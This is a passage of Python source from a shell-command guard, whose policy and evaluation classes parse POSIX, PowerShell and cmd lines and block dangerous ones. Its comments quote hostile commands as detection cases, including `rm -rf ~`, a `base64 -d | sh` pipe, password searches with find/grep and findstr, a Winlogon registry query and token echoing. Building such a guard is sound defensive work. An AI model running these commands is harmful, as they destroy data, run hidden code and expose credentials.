    runs, and its verdict on a line of one command of literal words the deny rules alone decided."""

    def evaluation(self, policy: CompiledPolicy, root: str | None) -> Evaluation:
        """The whole evaluation of a line, in this mode."""
        ...

    def literal(self, policy: CompiledPolicy, decision: Decision, argv: list[Arg]) -> Decision:
        """The decision on the one command `argv`, which the deny rules decided as `decision`."""
        ...


class CompiledPolicy(PolicyTables):
    """The policy's tables and its decision: the whole `Evaluation`, or the fast path for one command of
    literal words."""

    def check(
        self, command: str, shell: ShellKind, cwd: str | None = None, gate: LiteralGate | None = None
    ) -> Decision:
        """Decide `command` run in `cwd` (the working directory write targets are judged against; None:
        unknown, so every absolute target counts as outside), in deny mode or, with `gate`, in its mode.
        A script that is one command of literal words, run by a program that runs nothing else, is decided
        here from its words; everything else takes the whole `Evaluation`. tests/test_guard_fast_path.py
        proves both give the same decision."""
        if not command or command.isspace():
            return self._evaluation(cwd, gate).check(command, shell)
        text = command if shell == "posix" or command.isascii() else ps_ascii(command)
        if shell == "powershell" and "<" in text and _parse_powershell.placeholders_filled(text) is not None:
            return self._evaluation(cwd, gate).check(command, shell)  # judged once filled in (below)
        src = text.encode("utf-8", "replace")
        start_check()
        try:
            tree, words, glued = _parsed_line(shell, text, src, self.memo_limit > 0)
        except TooLarge as too_large:
            evaluation = self._evaluation(cwd, gate)
            evaluation._too_large(str(too_large))
            return evaluation.decide(command, shell)
        root = tree.root_node
        argv = None if words is None else list(words)  # (none on a tree with errors, too large or glued)
        known: list[Any] = []
        clean: list[str] = []
        if argv is not None and DYN not in command:
            decision = self._literal(command, shell, argv, known, clean, root.descendant_count, cwd)
            if decision is not None:
                return decision if gate is None else gate.literal(self, decision, argv)
        evaluation = self._evaluation(cwd, gate)
        if known:
            evaluation.known_hits = (shell, *known)
        if clean:
            evaluation.clean_words = (shell, *clean)
        return evaluation.check(command, shell, (src, root, argv, glued))

    def _evaluation(self, cwd: str | None, gate: LiteralGate | None) -> Evaluation:
        return Evaluation(self, root=cwd) if gate is None else gate.evaluation(self, cwd)

    def _literal(
        self,
        command: str,
        shell: ShellKind,
        argv: list[Arg],
        known: list[Any] | None = None,
        clean: list[str] | None = None,
        nodes: int = 0,
        cwd: str | None = None,
    ) -> Decision | None:
        """What `Evaluation.command` decides for a top-level command of literal words whose program
        wraps, writes and runs nothing (or is denied by its own clauses before it could: `rm -rf ~`);
        None when anything beyond its own clauses could matter (then
        `known` holds the words, their `NameInfo` and clause hits, and `clean` the words' texts and raw
        spellings joined, where no argument-wide rule's fragment was found: the walk need not compute
        either again). `nodes`: the syntax nodes of the line, which the walk spends before the words;
        `cwd`: the working directory, where a recursive delete of build output is spared."""
        word = argv[0][0]
        if "/" in word or "\\" in word or (":" in word and shell != "posix"):
            return None  # a program named by a path or a URI: the walk judges where it is
        if word[:1] in _MAKE_MARKS and shell == "posix":
            return None  # `@npm publish`, `-rm -rf ~`, make recipe lines: the walk reads them unmarked
        if "%" in word and shell == "powershell":
            return None  # `%COMSPEC% /c …`: a name built from cmd's variables is the walk's to judge
        if shell == "posix" and _CMDLET.fullmatch(word):
            return None  # a cmdlet in a POSIX line: the walk reads it as PowerShell
        info = self.words[shell].get(word)
        if info is None:
            info = self.word_info(word, shell, _NO_ALIASES)
        if not info.names[0]:
            return None
        if asks_help_only(argv, shell, info.names):
            return Decision.allow(command, shell, _ALLOWED, "ok")
        if info.names[0] == "git" and git_names_folder(argv):
            return None  # `git -C ~/x commit`, `git init ../x`: the walk judges where the folder is
        if info.names[0][:4] == "git-" or (
            info.names[0] == "git"
            and (name := git_program(argv)) is not None
            and not self.word_info(name, shell, _NO_ALIASES).inert
        ):
            return None  # `git-push`, `git crypt unlock`: the walk judges git's command and its program
        if info.names[0] == "reg" and len(argv) > 3:
            argv = registry_keys_joined(argv)
        if nodes + len(argv) > MAX_WORK:
            return None  # the walk runs out of work (and calls the line too large to check)
        acts = info.acts
        if acts:
            wrappers = info.wrappers
            if wrappers and wrapper_reading(wrappers, argv[1:], info.syntax.value_options)[0] is not None:
                return None  # it runs a command of its own: the walk checks that one
            # A wrapper whose spec does not read these words does nothing beyond its own rules.
            acts = bool(info.shell or info.executor or info.special or info.writes_files or info.paths)
        if info.clauses:
            hits = self.clause_hits(shell, info, argv)
            if known is not None:
                known[:] = (argv, info, hits)
            if hits:
                compiled, state, detail = hits[0]
                rule = compiled.rule
                if state != MATCH or rule.category == "unverifiable" or rule.outranked:
                    return None  # the walk goes on past these: let it
                if (acts and rule.id in REGENERABLE) or (
                    rule.id in (TREE_DELETE, BULK_DELETE, GIT_CLEAN)
                    and (
                        cwd is not None
                        or names_output(argv)
                        or any(names_a_file(a.text) for a in argv[1:])
                        or del_sweeps_artefacts(info.names, argv[1:], shell)
                    )
                ):
                    return None  # the walk may spare a file or tree that holds nothing to lose
                if rule.id == SYNC_DELETE and (cwd is not None or names_output(argv)):
                    return None  # a sync into build output: the walk judges it
                if rule.id == FIND_DELETE and (
                    find_sweeps_artefacts(argv[1:]) or find_starts(argv) or find_swept_output(argv[1:])
                ):
                    return None  # a sweep of compiled files or of build output: the walk judges it
                if rule.id == _NETWORK_PAYLOAD and _probes_module_version(info, argv):
                    return None  # a network module loaded only to print its version: the walk spares it
                # The walk reaches the clauses before anything the program does, and stops at this deny.
                out, reason = finding_words(rule, argv, info.names, "", detail)
                return Decision.block(command, shell, rule, reason, out, "ok")
        if acts:
            return None
        if len(argv) > 1:
            walk, searched = self.screened_words(shell, info, argv[1:], len(command))
            if searched and clean is not None:
                clean[:] = searched
            if walk:
                return None
        return Decision.allow(command, shell, _ALLOWED, "ok")

    def screened_words(
        self, shell: ShellKind, info: NameInfo, args: list[Arg], size: int
    ) -> tuple[bool, tuple[str, ...]]:
        """`_word_screens`, remembered in `word_screens` while the memo is on, for words spelled in at most
        `WORDS_MEMO_TEXT` characters (`size`: a bound on their length)."""
        key = None
        if self.memo_limit > 0 and size <= WORDS_MEMO_TEXT:
            key = (shell, info.names, *args)
            screened = self.word_screens.get(key)
            if screened is not None:
                return screened
        screened = self._word_screens(shell, info, args)
        if key is not None and len(self.word_screens) < self.memo_limit:
            self.word_screens[key] = screened
        return screened

    def _word_screens(
        self, shell: ShellKind, info: NameInfo, args: list[Arg]
    ) -> tuple[bool, tuple[str, ...]]:
        """Whether any argument may matter beyond the program's clauses (then the walk judges the command),
        and the texts and raw spellings joined when no argument-wide rule's fragment is in them (else
        empty). A pure function of the dialect, the names and the words (see `word_screens`)."""
        texts = "\n".join([a.text for a in args])
        if maybe_environ(texts):
            return True, ()  # a path that could be a process environment: the walk judges it
        searched: tuple[str, ...] = ()
        entries, screen = self.argument_rules[shell]
        if entries:
            if maybe_glob(texts) and any(is_glob_path(a.text) or is_named_glob(a.text) for a in args):
                return True, ()  # a glob that may expand to a credential file: the walk judges it
            if screen is None or screen.search(texts) is not None:
                return True, ()
            raws = "\n".join([a.raw for a in args])
            if raws != texts and screen.search(raws) is not None:
                return True, ()
            searched = (texts, raws)
        if self.locators[shell] and (_locators.screen(texts) or self.machine_options(shell, texts)):
            return True, searched  # a word that may name another machine: the walk judges it
        if self.handed_screen.search(texts, moved=False) and self.file_tools.isdisjoint(info.names):
            return True, searched  # a word that may hand the program code to run: the walk judges it
        if "-" in texts or ":" in texts:
            options = self.command_options
            if options is not None and any(
                a.text[:1] == "-" and options.fullmatch(a.text.partition("=")[0]) for a in args
            ):
                return True, searched  # an option whose value may be a command line
            if listens_or_runs_setting(args, texts):
                return True, searched  # a listening option, or `-o ProxyCommand=…`
            if output_targets(info.names[-1], args):
                return True, searched  # an output file: the walk judges where it is
        if info.names[-1] in RUNNERS and run_places(info.names[-1], args):
            return True, searched  # a folder or build file a runner runs: the walk judges where it is
        return False, searched


_REG_TWO_KEYS = frozenset({"copy", "compare"})
_REG_KEY_THEN_FILE = frozenset({"export", "save", "load", "restore"})


def _probes_module_version(info: NameInfo, argv: list[Arg]) -> bool:
    """Is this interpreter told only to load a module and print its version (see `module_version_probe`)?"""
    return info.executor is not None and module_version_probe(
        info.executor.language, [a.text for a in argv[1:]]
    )


def registry_keys_joined(argv: list[Arg]) -> list[Arg]:
    """`reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon` with the key's blanks
    unquoted: cheat sheets write keys so, and the split words hide the key from every rule on key names.
    The words after a key and before the first option are its continuation, as one key (the last of them is
    the file of `reg export`/`save`; `reg copy`/`compare` start their second key at a word naming a hive)."""
    sub = argv[1].text.lower()
    end = 2
    while end < len(argv) and argv[end].text[:1] not in ("/", "-"):
        end += 1
    if sub in _REG_KEY_THEN_FILE:
        end -= 1
    words = argv[2:end]
    if len(words) < 2 or not _REG_HIVE.match(words[0].text):
        return argv
    keys: list[list[Arg]] = [[words[0]]]
    for word in words[1:]:
        if sub in _REG_TWO_KEYS and _REG_HIVE.match(word.text):
            keys.append([word])
        else:
            keys[-1].append(word)
    joined = [Arg(" ".join(w.text for w in key), " ".join(w.raw for w in key)) for key in keys]
    return [*argv[:2], *joined, *argv[end:]]


class Evaluation(RunsOtherCode, WordChecks):
    """Checks one command (and everything nested in it); implements the parsers' `Sink`."""

    __slots__ = (
        "_appends",
        "_files",
        "_handed",
        "_last_output",
        "_names",
        "_producer_views",
        "_scope",
        "_trees",
        "clean_long_texts",
        "clean_words",
        "collect_all",
        "copied",
        "edited",
        "findings",
        "glob_words",
        "guessing",
        "index",
        "known_hits",
        "known_scripts",
        "line",
        "loops",
        "matched",
        "p",
        "parse_status",
        "root",
        "seen",
        "staged",
        "work",
        "written",
    )

    def __init__(
        self,
        policy: CompiledPolicy,
        *,
        collect_all: bool = False,
        root: str | None = None,
        files: ProjectFiles | None = None,
    ) -> None:
        self.root = root
        """The working directory write targets are judged against (None: not known, see `FreshCheckout`)."""
        self.p = policy
        self.index = policy.index
        self.collect_all = collect_all
        self.findings: list[Finding] = []
        self.parse_status = "ok"
        self.work = 0
        """Syntax nodes and command words seen so far (see `MAX_WORK`)."""
        self.matched = 0
        """Characters of words matched against the argument-wide rules so far (see `MAX_MATCHED`)."""
        self.glob_words = 0
        """Glob words compared with the path rules' globs so far (see `MAX_GLOB_WORDS`)."""
        self._files = files
        """What writing or deleting in the working directory would lose (made on first need from `root`)."""
        self.guessing = False
        """Walking a reading the line only may have (`_named_program`): what is only known at run time in
        it, or missing from an allowlist, is no finding."""
        self.line = ""
        """The command line being judged, as written."""
        self._fresh_line_state()

    def _fresh_line_state(self) -> None:
        """What the walk learns of one reading of the line as it goes (files written, commands seen, the
        working folder), as it stands before the line's first word."""
        self._scope: PathScope | None = None
        self.written: set[str] = set()
        """Files this command line writes; running one of them runs text the policy never saw."""
        self.known_scripts: dict[str, tuple[str, str | None]] = {}
        """Files of `written` this line writes whole, once, with text known in advance -> the language it runs
        in, and the text still to judge when the line runs it (None: judged where it was written, as
        `echo 'print(1)' > x.py` is). An interpreter of that language running one runs that text."""
        self.staged = False
        """Whether the line sets `DESTDIR`, which stages an install step's copy inside it (see
        `configured_prefixes`)."""
        self.edited: set[str] = set()
        """Files a pipeline rewrites from their own content read whole first (see `in_place_edit`)."""
        self.loops: list[tuple[frozenset[str], bool]] = []
        """Per loop walked word by word: what was written before it, and whether a later copy is walked."""
        self.copied: set[str] = set()
        """Copies or links of other files this command line makes; running one runs an unknown program."""
        self.seen: list[list[Arg]] = []
        """Every simple command so far, in the order the line runs them (what a later write may destroy)."""
        self._handed: dict[int, Arg] = {}
        """Words a wrapper or shell hands on to the command it runs, by identity (see `_hand_on`)."""
        self.known_hits: tuple[Any, ...] | None = None
        """(dialect, words, `NameInfo`, clause hits) the fast path computed for the line's one command."""
        self.clean_words: tuple[str, ...] = ()
        """(dialect, texts...) in which the fast path found no fragment of an argument-wide rule."""
        self.clean_long_texts: dict[str, CleanTexts] = {}
        """Per dialect, the long texts the walk found no such fragment in (see `_screen_finds`)."""
        self._names: tuple[set[str], int, bool] = (set(), 0, False)
        """`_named` so far: the files named, how many commands of `seen` that covers, any glob among them."""
        self._trees: tuple[set[str], int] = (set(), 0)
        """`_named_trees` so far: the paths named and every folder above them, and how many commands."""
        self._last_output: tuple[list[Arg], str, str | None] | None = None
        """The last writer whose output `_written_script` computed, its dialect and that output."""
        self._appends: set[tuple[object, ...]] | None = None
        """Appends (`>> f`) judged so far, by target, place and writer (see `redirect`)."""
        self._producer_views: dict[int, tuple[list[Arg], CommandView]] = {}
        """Producers' views by their words' identity: every command downstream sees the same one, so what a
        rule asked of it is asked once (a line of many filters would otherwise ask each again and again)."""

    # -- entry points --
    def run(self, text: str, shell: ShellKind) -> None:
        start_check()
        self.line = text
        try:
            self.script(text, shell, Frame(shell))
            self._filled_in_reading(text, shell)
        except _Stop:
            pass  # a concrete deny was found; nothing later can change the decision
        except RecursionError:
            self._too_deep()
        except TooLarge as too_large:
            self._too_large(str(too_large))

    def _too_deep(self) -> None:
        # Thousands of nested `$(` exhaust the walker's stack: still a decision, never a crash.
        self.findings.clear()
        rule = self.index.engine["depth-exceeded"]
        self.findings.append(Finding(rule, [], f"the command nests too deeply to walk: {rule.description}"))

    def check(
        self, command: str, shell: ShellKind, parsed: tuple[bytes, Any, list[Arg] | None, bool] | None = None
    ) -> Decision:
        """Run the whole evaluation of `command` and decide; `parsed` is its source, tree, `simple_command`
        words (see `_parsed_line`) and whether a word is glued to a quoted string, when the caller has them
        already."""
        self.line = command
        if command and not command.isspace():
            if parsed is None:
                start_check()  # else the caller started it before it parsed
            try:
                self._parse_and_walk(command, shell, Frame(shell), parsed)
                self._filled_in_reading(command, shell)
            except _Stop:
                pass
            except RecursionError:
                self._too_deep()
            except TooLarge as too_large:
                self._too_large(str(too_large))
        return self.decide(command, shell)

    def _filled_in_reading(self, command: str, shell: ShellKind) -> None:
        """A reference's line the shell runs as written (`docker exec -it <container> sh` reads the file
        `container`, writes the file `sh`) is also judged as it runs once its placeholders are filled in,
        from the line's start again."""
        if shell == "posix" and "<" in command:
            filled = _parse_posix.placeholders_filled_in(command)
            if filled is not None:
                self._fresh_line_state()
                self._parse_and_walk(filled, shell, Frame(shell))

    def decide(self, command: str, shell: ShellKind) -> Decision:
        """The decision the findings so far make."""
        findings = self.findings
        if not findings:
            return Decision.allow(command, shell, _ALLOWED, self.parse_status)
        # A concrete deny explains the block better than an unverifiable word found before it, and a rule
        # that is outranked explains it only when nothing else does.
        chosen = findings[-1]  # without collect_all, the first concrete deny stops the walk: it is the last
        if chosen.rule.category == "unverifiable" or chosen.rule.outranked or self.collect_all:
            concrete = [f for f in findings if f.rule.category != "unverifiable"] or findings
            chosen = next((f for f in concrete if not f.rule.outranked), concrete[0])
        return Decision.block(command, shell, chosen.rule, chosen.reason, chosen.argv, self.parse_status)

    def _spend(self, units: int) -> None:
        """Count work against `MAX_WORK`; past it, stop the walk: the line is too large to check."""
        self.work += units
        if self.work > MAX_WORK:
            raise TooLarge(f"the command holds more than {MAX_WORK:,} syntax nodes and words")

    def _too_large(self, detail: str) -> None:
        rule = self.index.engine["too-large"]
        self.findings.append(Finding(rule, [], f"{detail}: {rule.description}"))

    def _add(self, rule: Rule, argv: list[str], reason: str) -> None:
        if self.guessing and rule.category == "unverifiable":
            return  # see `_named_program`
        self.findings.append(Finding(rule, argv, reason))
        if not self.collect_all and rule.category != "unverifiable" and not rule.outranked:
            raise _Stop

    def _rule_finding(
        self, rule: Rule, argv: list[Arg], names: tuple[str, ...], frame: Frame, detail: str
    ) -> None:
        if self.guessing and rule.category == "unverifiable":
            return  # see `_named_program`
        out, reason = finding_words(rule, argv, names, frame.where() if frame.via else "", detail)
        self.findings.append(Finding(rule, out, reason))
        if not self.collect_all and rule.category != "unverifiable" and not rule.outranked:
            raise _Stop

    @staticmethod
    def _argv(argv: list[Arg], names: tuple[str, ...] = ()) -> list[str]:
        out = [a.text for a in argv]
        if DYN in "".join(out):
            out = [a.text if DYN not in a.text else a.raw for a in argv]
        if out and names:
            out[0] = names[-1]
        return out

    def event(self, event: EngineEvent, frame: Frame, detail: str, argv: list[str] | None = None) -> None:
        rule = self.index.engine[event]
        self._add(rule, argv or [], f"{detail}{frame.where()}: {rule.description}")

    # -- scripts --
    def script(self, text: str, dialect: Dialect, frame: Frame) -> None:
        self._spend(SCRIPT_WORK + len(text) // SCRIPT_CHARS_PER_UNIT)
        if frame.depth > self.p.max_depth:
            self.event("depth-exceeded", frame, f"nesting deeper than {self.p.max_depth} levels")
            return
        if frame.dialect != dialect:
            frame = Frame(dialect, frame.depth, frame.via, feeds=frame.feeds)
        if dialect == "cmd":
            self._cmd_script(text, frame)
            return
        self._parse_and_walk(text, dialect, frame)

    def _parse_and_walk(
        self,
        text: str,
        dialect: ShellKind,
        frame: Frame,
        parsed: tuple[bytes, Any, list[Arg] | None, bool] | None = None,
    ) -> None:
        module = _parse_posix if dialect == "posix" else _parse_powershell
        if dialect == "powershell" and not text.isascii():
            text = ps_ascii(text)  # the same spelling `CompiledPolicy.check` parsed
        if dialect == "powershell" and "<" in text:
            filled = _parse_powershell.placeholders_filled(text)
            if filled is not None:
                text, parsed = filled, None  # PowerShell refuses `<file>`: judged as it runs once completed
        if parsed is None:
            src = text.encode("utf-8", "replace")
            tree, words, glued = _parsed_line(dialect, text, src, self.p.memo_limit > 0)
            root = tree.root_node
            # (a line too large or glued to a quoted string is walked as a parse error, whatever its words)
            argv = None if words is None else list(words)
        else:
            src, root, argv, glued = parsed
        self._spend(root.descendant_count)
        broken = root.has_error
        # A word run into a quoted string with a blank (`/C"set x&&call %x%"`) parses without an error, but
        # cut at the blank: what follows would be read as other words or commands. It is respelled too.
        split = not broken and glued
        if dialect == "posix" and not broken and _parse_posix.marked_compound(text):
            broken = True  # `@for f in …; do …; done`: read wrongly without an error, respelled below
        written = text  # (as typed, before any respelling below)
        if (broken or split) and len(text) <= REPAIR_MAX:
            # Only a failed parse pays for the respelling and the second parse.
            repaired = module.repair(text)
            if repaired == "":
                return  # comments only: nothing runs
            if repaired is not None and repaired != text:
                src2 = repaired.encode("utf-8", "replace")
                root2 = module.parse(src2).root_node
                if not root2.has_error:
                    self._spend(max(0, root2.descendant_count - root.descendant_count))
                    text, src, root = repaired, src2, root2
                    argv = module.simple_command(text, root)
                    broken = split = False
            elif repaired == text:
                split = False  # nothing glued to respell: the grammar read it as PowerShell does
        broken = broken or split  # (a split word too long to respell stays unread: a parse error)
        if (
            dialect == "powershell"
            and frame.depth == 0
            and (broken or _CMD_ONLY_START.match(text))
            and _written_for_cmd(text)
        ):
            # A batch file's line in a PowerShell box (`if exist out rd /s /q out`, `@dotnet build %*`):
            # PowerShell cannot run it (`@set`, `start "" x.exe`: refused, though the grammar reads them);
            # cmd runs what its reader reads. Both are judged: what the grammar could read of it, and the
            # commands cmd runs.
            self.parse_status = "cmd"
            if not (broken and _CMD_STATEMENT.match(text)):
                module.walk(self, frame, src, root, text)
            named = _NAMED_PROGRAM.match(text)
            if named is not None and (named[1] or text.lstrip()[:1] == "@"):
                # `"%MSBUILD%" app.sln`, `@%NUGET% pack`: judged as the plain program variable is
                self._named_program(named[2].lower() + text[named.end() :], frame)
                return
            self._cmd_script(text, Frame("cmd", frame.depth, frame.via, feeds=frame.feeds))
            return
        if dialect == "powershell" and frame.depth == 0 and not broken and _cmd_folder_list(text):
            self.parse_status = "cmd"
            self._cmd_script(text, Frame("cmd", frame.depth, frame.via, feeds=frame.feeds))
            return
        if not broken:
            if argv is not None:
                self.command(argv, frame, None)  # what the walk would report, without walking
            else:
                module.walk(self, frame, src, root, text)
            if dialect == "powershell" and frame.depth == 0 and "%" in written and _written_for_cmd(written):
                # A batch file's line PowerShell also reads (`echo %NPM_TOKEN%`, nothing of PowerShell's own
                # in it): cmd expands its variables.
                cmd = Frame("cmd", frame.depth, frame.via, feeds=frame.feeds)
                for name in _parse_cmd.values_read(written):
                    self.variable(name, cmd, f"%{name}%")
                named = _NAMED_PROGRAM.match(text) if text[:1] == "%" else None
                if named is not None:
                    self._named_program(named[2].lower() + text[named.end() :], frame)
            return
        if frame.depth == 0:
            self.parse_status = "error"
        elif self.parse_status == "ok":
            self.parse_status = "nested-error"
        module.walk(self, frame, src, root, text)
        self.event("parse-error", frame, f"the {dialect} parser cannot read `{shown(text)}`")

    def _named_program(self, text: str, frame: Frame) -> None:
        """A batch file's line whose program is a variable named for it (`%REG% add HKLM\\x /f`, `%NSSM% set
        svc …`), given as `text` with the name in its place: PowerShell runs nothing of it, cmd runs that
        program. Only what that program would do counts; that the variable, or another in the line, is
        only known at run time, or that the program is off an allowlist, is no finding here (the guess is
        the point)."""
        self.guessing = True
        try:
            self._cmd_script(text, Frame("cmd", frame.depth, frame.via, feeds=frame.feeds))
        finally:
            self.guessing = False

    def _cmd_script(self, text: str, frame: Frame) -> None:
        if len(text) > CMD_MAX_LINE:
            raise TooLarge(f"the cmd.exe line is longer than cmd.exe accepts ({CMD_MAX_LINE:,} characters)")
        parsed = _parse_cmd.parse_cmd(text)
        for name in parsed.variables:
            self.variable(name, frame, f"%{name}%")
        for argv in parsed.program_readings:  # first: for a program the C runtime's reading is exact
            self.command(argv, frame, None)
        previous: list[Arg] | None = None
        feed: Feed | None = None
        for command in parsed.commands:
            self._cmd_set(command.argv, frame)
            stdin = None
            if command.piped and previous is not None:
                before = previous
                # what the stage before prints, and who that was (`dir c:\ /s /b | findstr pass`)
                feed = Feed(lambda b=before, up=feed: (b, up))
                stdin = Stdin("pipe", compute=lambda b=before: static_output(b, None, "cmd"), feed=feed)
            else:
                feed = None
            self.command(command.argv, frame, stdin)
            empty = _cmd_writes_nothing(command.argv)
            for op, target in command.redirects:
                self.redirect(op, target, frame, empty, command.argv)
            previous = command.argv

    def _cmd_set(self, argv: list[Arg], frame: Frame) -> None:
        """`set NAME=value` (also `set "NAME=value"`) sets a variable for the commands after it, as an
        assignment does in the other shells; `set /a` computes and `set /p` reads the terminal."""
        if len(argv) > 1 and argv[0].text.lower() == "path" and argv[1].text[:1] not in ("/", "="):
            # `path C:\\x\\bin;%PATH%` is `set PATH=C:\\x\\bin;%PATH%`
            value = " ".join(a.text for a in argv[1:])
            self.assignment("PATH", Arg(value, " ".join(a.raw for a in argv[1:])), frame)
            return
        if len(argv) < 2 or argv[0].text.lower() != "set" or argv[1].text.lower() in ("/a", "/p"):
            return
        name, eq, value = " ".join(a.text for a in argv[1:]).partition("=")
        if eq and name.strip():
            raw = " ".join(a.raw for a in argv[1:]).partition("=")[2]
            self.assignment(name.strip(), Arg(value, raw), frame)

    # -- sink callbacks --
    def command(
        self,
        argv: list[Arg],
        frame: Frame,
        stdin: Stdin | None,
        resolved_name: str | None = None,
        feeds: tuple[Feed, ...] = (),
    ) -> None:
        if not argv:
            return
        self._spend(len(argv))
        self.seen.append(argv)
        head = argv[0]
        word = head[0]
        if head[3]:  # `& { ... }`: the walker checks the block's own commands
            return
        if word[:1] in _MAKE_MARKS and frame.dialect == "posix":
            unmarked = self._unmarked(argv)
            if unmarked is not argv:
                argv = unmarked
                self.seen[-1] = argv  # the command as read, so later steps know it as this one
                head = argv[0]
                word = head[0]
        if DYN in word:
            below = None
            if frame.dialect == "posix" and resolved_name is None:
                if self._make_variable(argv, frame, stdin, feeds):
                    return
                below = below_run_time_folder(head)
            elif frame.dialect == "cmd" and resolved_name is None:
                below = below_cmd_variable_folder(head)  # `call %ROOT%\Build\pack.bat`: the same
            elif frame.dialect == "powershell" and resolved_name is None and frame.depth == 0:
                # `& "$PSScriptRoot\tools\nuget.exe"`: the same, where the line gives the variable no value
                below = below_powershell_variable_folder(head, self.line)
            if below is not None:
                # `"$ROOT"/hack/verify.sh`: a program named by its path below a folder only known at run
                # time, as `bash "$ROOT/hack/verify.sh"` runs a script there: judged by its name, the folder
                # left to the sandbox unless it is the home or the temp folder.
                program, outside = below
                if outside:
                    self.event(
                        "outside-program",
                        frame,
                        f"`{head.raw}` is in the home, the temp folder or another of Windows' own, "
                        "outside the project"
                        if frame.dialect != "posix"
                        else f"`{head.raw}` is in the home or the temp folder, outside the project",
                        self._argv(argv),
                    )
                    return
                self.command([program, *argv[1:]], frame, stdin, None, feeds)  # (no run-time part left)
                return
            self._dynamic_name(argv, frame, stdin, resolved_name, feeds)
            return
        p = self.p
        dialect = frame.dialect
        if (
            dialect == "powershell"
            and ("*" in word or "?" in word or "[" in word)
            and _WILDCARD_PATH.search(word) is not None
        ):
            self.event(
                "dynamic-command",
                frame,
                f"the program `{head.raw}` is a wildcard path: the file it runs is only known at run time",
                self._argv(argv),
            )
            return
        if dialect == "powershell" and "%" in word and _CMD_BUILT_NAME.search(word) is not None:
            # `%COMSPEC% /c whoami`, `%TEMP:~-8,-7%%CommonProgramFiles:~9,1%d`: a name cut from cmd's
            # variables, or cmd itself by its variable (PowerShell finds no such program; cmd, which the line
            # is written for, runs what they hold). A plain `%SPHINXBUILD% -M html …` runs nothing here.
            self.event(
                "dynamic-command",
                frame,
                f"the command name `{head.raw}` is built from cmd's variables, only known at run time",
                self._argv(argv),
            )
            return
        info = None if frame.aliases else p.words[dialect].get(word)
        if info is None:
            info = p.word_info(word, dialect, frame.aliases)
        names = info.names
        if not names[0]:
            return
        if frame.depth > p.max_depth:
            self.event("depth-exceeded", frame, f"nesting deeper than {p.max_depth} levels", self._argv(argv))
            return
        if len(argv) <= 3 and asks_help_only(argv, dialect, names):
            return  # `ftp --help`, `ssh -V`, `pip install --help`: prints its usage or version and exits
        if "/" in word or "\\" in word or (":" in word and dialect != "posix"):
            self._judge_program(head, frame, argv)  # a path, or a Windows URI (`shell:AppsFolder\…`)
            service = p.service_script(word) if dialect == "posix" and p.service_folders else None
            if service is not None:
                how = f"`{head.raw}` is the init script of service `{service}`"
                words = [Arg("service", "service"), Arg(service, service), *argv[1:]]
                self.command(words, frame.wrapped(how), stdin)
                return
        if dialect == "posix" and info.special is None and _CMDLET.fullmatch(word):
            if frame.depth < p.max_depth:
                # A cmdlet written in a POSIX line (`Get-DomainUser bob`, as cheat sheets and Git Bash notes
                # do) is a PowerShell line in the wrong box: judged as PowerShell would run it.
                line = " ".join(a.raw for a in argv)
                self.script(line, "powershell", frame.nested(f"`{head.raw}` read as PowerShell"))
            return
        if names[0] == "git":
            if any(a.text == "-c" for a in argv):
                argv = self._git_settings(argv, frame)
            self.git_elsewhere(argv, frame)
        elif names[0] == "reg" and len(argv) > 3:
            argv = registry_keys_joined(argv)
        args = argv[1:]
        if dialect == "powershell":
            for a in args:
                text = a.text
                if ":" not in text:
                    continue
                if text[:1] == "-":
                    text = text.partition(":")[2]  # `-Path:env:X`
                if text[:4].lower() == "env:" and (item := _ENV_ITEM.fullmatch(text)) is not None:
                    # `Test-Path env:CI`: one variable named on the env: drive is read as `$env:CI` is (the
                    # drive itself, a wildcard or a run-time name is the env: drive rule's).
                    self.variable(f"env:{item.group(1)}", frame, a.raw)
        if info.names[-1] in RUNNERS:
            self._runner_places(info.names, argv, frame)
        spelled = (names[0] == "git" or names[0][:4] == "git-") and not (
            frame.via and frame.via[-1].endswith(_GIT_SPELLED)
        )
        if info.inert:
            # No rule names this program and it runs nothing else: only argument-wide rules, and a file
            # written earlier in the line, can matter.
            if spelled:
                self._git_spelled(names[0], argv, frame, stdin)
            if args and self._words_may_matter(args, info, dialect):
                # (with the substitutions that made its words: `prettier --write $(git ls-files)`)
                self._arguments(args, argv, info, frame.fed((*feeds, *frame.feeds)) if feeds else frame)
            if (self.written or self.copied) and ("/" in word or "\\" in word):
                self._check_runs_written(argv, frame)
            return

        # Pipeline input binds to PowerShell parameters (`gci -r | Remove-Item`); a script run by a fed
        # command is fed too (`find . -exec sh -c 'rm "$1"' _ {} ;`).
        if stdin is not None and stdin.feed is not None and dialect == "powershell":
            feeds = (*feeds, stdin.feed)
        if frame.feeds:
            feeds = (*feeds, *frame.feeds) if feeds else frame.feeds
        if feeds and frame.feeds is not feeds:
            frame = frame.fed(feeds)
        wrapped = None
        inner_feeds = feeds
        wrapper = None
        if info.wrappers:
            wrapper, read = wrapper_reading(info.wrappers, args, info.syntax.value_options)
            if wrapper is not None:
                stdin_words = None
                if wrapper.feeds_arguments and stdin is not None and not stdin.is_file:
                    self._spend(FED_WRAPPER_WORK)
                    piped = stdin.text()
                    stdin_words = split_words(piped) if piped is not None else None
                    if stdin.feed is not None:
                        # `find . | xargs rm`: the operands of rm come from find.
                        inner_feeds = (*feeds, stdin.feed)
                wrapped = unwrap(wrapper, read, stdin_words)
        if info.clauses:
            clause_feeds = feeds
            piped = stdin is not None and stdin.feed is not None and dialect != "powershell"
            if piped and (
                info.shell
                or info.executor
                or not p.text_tools.isdisjoint(names)
                or (dialect == "cmd" and names[0] in _CMD_TEXT_FILTERS)
            ):
                # What a shell or interpreter reads on a pipe may be its program (`… | base64 -d | sh`),
                # and what a search reads is what it searches (`find / | grep -i password`).
                clause_feeds = (*feeds, stdin.feed)  # type: ignore[union-attr]
            known = self.known_hits
            if wrapped is None:
                if known is not None and known[1] is argv and known[2] is info and known[0] == dialect:
                    hits = known[3]  # the fast path found them for these very words
                else:
                    hits = p.clause_hits(dialect, info, argv)  # what the words alone decide
                if clause_feeds and info.fed_clauses:
                    view = CommandView(names, argv, dialect, info.syntax)
                    view.windows_program = p.windows_program(dialect, word, names)
                    view.producers_of = lambda: self._producers(clause_feeds, dialect)
                    hits = with_fed_hits(hits, info, view)
            else:
                view = CommandView(names, argv, dialect, info.syntax)
                view.windows_program = p.windows_program(dialect, word, names)
                view.has_command = wrapped.has_command
                if clause_feeds:
                    view.producers_of = lambda: self._producers(clause_feeds, dialect)
                hits = matching_clauses(info.clauses, view, info.clause_table)
            for compiled, state, detail in hits:
                rule_id = compiled.rule.id
                if (
                    rule_id == TREE_DELETE
                    and clause_feeds
                    and (
